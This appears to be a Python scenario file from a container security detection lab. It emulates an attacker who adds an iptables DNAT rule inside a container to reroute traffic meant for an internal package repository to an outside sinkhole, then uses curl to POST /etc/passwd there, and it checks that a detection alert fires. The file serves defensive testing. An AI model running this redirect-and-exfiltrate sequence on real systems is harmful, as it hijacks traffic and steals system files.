"""A NAT rule inside a container's namespace reroutes its traffic for an internal service to the outside."""

from __future__ import annotations

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.variants import Dimension


class NatRedirect(Scenario):
    id = "docker.network.nat-redirect"
    title = "DNAT rule inside a container sends its traffic for an internal service to an outside endpoint"
    kind = Kind.ADVERSARY
    techniques = ("T1090", "T1041")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.net.nat-redirect-external",), within_s=15, may_fire={
        "stowaway.net.egress-not-allowlisted":
            "Its redirected POST really leaves the application for the sinkhole on the lab internet, "
            "outside the egress allowlist.",
    })
    twin = "docker.network.sidecar-redirect"
    tags = ("network", "redirection")
    dimensions = (
        Dimension("tool", ("iptables", "iptables-legacy"), doc="the rules written through iptables' nf_tables "
                  "backend (Debian's default) or through the legacy xtables one"),
        Dimension("to_port", (80, 8080), doc="the outside endpoint's port the traffic is rewritten to"),
    )
    description = (
        "Deploys an internal package repository on the lab LAN (python http.server) and an application "
        "container on the LAN and the lab internet with NET_ADMIN. Inside the application's network "
        "namespace it adds an iptables DNAT rule (nat/OUTPUT) that rewrites connections to the repository's "
        "port 80 to the sinkhole's port 80, plus a MASQUERADE rule so replies come back. The application "
        "then POSTs its /etc/passwd to what it believes is the repository; the scenario checks that the "
        "sinkhole, not the repository, received the POST from the application's address. Variants write "
        "the rules with iptables-legacy, or rewrite to the endpoint's port 8080."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        repo = lab.deploy(WorkloadSpec(role="repo", networks=("lan",), labels={"app": "pkg-mirror"},
                                       command=("python3", "-m", "http.server", "80", "--directory", "/usr/share")))
        app = lab.deploy(WorkloadSpec(role="app", networks=("lan", "inet"), cap_add=("NET_ADMIN",),
                                      labels={"app": "invoice-api"}))
        repo_ip = repo.addresses["lan"]
        lab.exec(app, "sh", "-c", f"for i in 1 2 3 4 5 6 7 8 9 10; do curl -sf -m 2 -o /dev/null "
                                  f"http://{repo_ip}/ && exit 0; sleep 0.5; done; exit 1")
        tool, to_port = str(self.variant["tool"]), self.variant["to_port"]
        lab.action("add a DNAT rule in the app's namespace: repository traffic goes to the outside endpoint")
        lab.exec(app, tool, "-t", "nat", "-A", "OUTPUT", "-p", "tcp", "-d", repo_ip, "--dport", "80",
                 "-j", "DNAT", "--to-destination", f"{sink}:{to_port}")
        lab.exec(app, tool, "-t", "nat", "-A", "POSTROUTING", "-d", sink, "-j", "MASQUERADE")
        lab.exec(app, "sh", "-c", f"curl -s -m 5 -o /dev/null --data-binary @/etc/passwd http://{repo_ip}/upload")
        source = app.addresses["inet"]
        lab.wait_for(lambda: any("POST /upload" in r.get("head", "") for r in lab.sinkhole_records(peer=source)),
                     timeout=10, what="the redirected POST to reach the sinkhole")
